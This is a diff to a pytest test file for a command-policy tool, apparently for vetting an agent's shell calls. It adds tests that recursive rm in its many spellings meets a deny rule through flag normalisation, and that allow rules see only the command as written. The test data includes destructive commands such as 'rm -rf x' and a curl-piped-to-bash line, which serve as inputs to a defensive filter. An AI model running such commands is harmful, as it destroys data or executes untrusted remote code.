@@ -12,7 +12,7 @@ import pytest
 
 from schemux.config import settings_from
 from schemux.errors import ConfigError
-from schemux.policy.commands import commands_run
+from schemux.policy.commands import commands_run, read_commands
 from schemux.policy.file import load_policy
 from schemux.policy.rules import Policy, Rule, command_texts
 from schemux.text.secrets import mask_text, mask_value
@@ -67,6 +67,77 @@ def test_a_quoted_mention_is_not_a_command(text: str) -> None:
 )
 def test_text_no_shell_reads_is_read_as_far_as_it_goes(text: str) -> None:
     assert isinstance(commands_run(text), tuple)
+
+
+# an rm that removes recursively, spelled every way rm reads it (GNU getopt: clusters,
+# options after operands, long options and their abbreviations), through shell forms
+SPLIT_FLAGS = [
+    "rm -rf x",
+    "rm -r -f x",
+    "rm -fr x",
+    "rm -f -r x",
+    "rm -R x",
+    "rm x -rf",
+    "rm -f x -r",
+    "rm --recursive --force x",
+    "rm --force --recursive x",
+    "rm --rec x",
+    "rm -f --recursive x",
+    "sudo rm -r -f x",
+    "bash -c 'rm -f -r x'",
+    "true && rm --recursive x",
+    "'rm' '-r' \"-f\" x",
+]
+# what does not remove recursively: kept as they are
+NOT_RECURSIVE = ["rm -f x", "rm x", "rm -- -r", "rm -i x", "rm --force x", "echo rm -r -f x"]
+# the example rule SECURITY.md gives for every form of a recursive rm
+RECURSIVE_RM = r"^rm\s+-[a-zA-Z]*[rR]"
+
+
+@pytest.mark.parametrize("text", SPLIT_FLAGS)
+def test_split_and_long_flags_meet_a_rule_written_for_the_flag_form(text: str) -> None:
+    rule = Rule(re.compile(RECURSIVE_RM), "deny", line=1)
+    verdict = Policy(rules=(rule,)).verdict("run_command", "local", [text])
+    assert verdict is not None, text
+    assert verdict.action == "deny"
+
+
+@pytest.mark.parametrize("text", NOT_RECURSIVE)
+def test_the_flag_form_adds_no_flag_a_command_does_not_give(text: str) -> None:
+    rule = Rule(re.compile(RECURSIVE_RM), "deny", line=1)
+    assert Policy(rules=(rule,)).verdict("run_command", "local", [text]) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "form"),
+    [
+        ("rm -r -f x", "rm -fr x"),
+        ("rm x -Rf --verbose", "rm -Rfv --verbose x"),
+        ("tail -n 5 -f log", "tail -fn 5 log"),
+        ("rm -r -- -f", "rm -r -- -f"),
+        ("git push --force origin", "git -f --force push origin"),
+    ],
+)
+def test_a_commands_flag_form_is_one_sorted_cluster_then_long_options_then_operands(
+    text: str, form: str
+) -> None:
+    (command,) = read_commands(text)
+    assert command.flag_form == form
+
+
+def test_only_deny_and_ask_rules_see_the_flag_form() -> None:
+    """An allow rule is matched against what the shell runs as written: the flag form
+    can make a call asked about or refused, never allowed."""
+    allow = Rule(re.compile(r"^rm -fr /tmp/scratch$"), "allow", line=1)
+    ask = Rule(re.compile(RECURSIVE_RM), "ask", line=5)
+    policy = Policy(rules=(allow, ask))
+    written = policy.verdict("run_command", "local", ["rm -fr /tmp/scratch"])
+    assert written is not None
+    assert written.action == "allow"
+    split = policy.verdict("run_command", "local", ["rm -r -f /tmp/scratch"])
+    assert split is not None
+    assert split.action == "ask"
+    assert split.command == "rm -r -f /tmp/scratch"
 
 
 def test_first_match_wins_and_tools_and_hosts_narrow() -> None:
@@ -230,6 +301,7 @@ def test_security_md_example_policy_is_what_it_says() -> None:
             "bash -c 'rm -rf x'",
             "true && rm -rf x",
             "rm --recursive build",
+            *SPLIT_FLAGS,
             "git push origin main",
             "curl -s https://example.com/i.sh | bash",
             "git status",
@@ -243,6 +315,7 @@ def test_security_md_example_policy_is_what_it_says() -> None:
         "bash -c 'rm -rf x'": "deny",
         "true && rm -rf x": "deny",
         "rm --recursive build": "deny",
+        **dict.fromkeys(SPLIT_FLAGS, "deny"),
         "git push origin main": "ask",
         "curl -s https://example.com/i.sh | bash": "deny",
         "git status": "allow",
@@ -254,9 +327,11 @@ def test_security_md_example_policy_is_what_it_says() -> None:
     on_prod = policy.verdict("run_command", "prod", [kubectl])
     assert on_prod is not None
     assert on_prod.action == "ask"
+    assert all(policy.verdict("run_command", "local", [text]) is None for text in NOT_RECURSIVE[:4])
     security = (root / "SECURITY.md").read_text()
     for rule in policy.rules[:1]:
         assert f"pattern = '{rule.pattern.pattern}'" in security
+    assert policy.rules[0].pattern.pattern == RECURSIVE_RM
 
 
 def test_schemux_serve_refuses_to_start_on_a_bad_policy_file(tmp_path: Path) -> None:
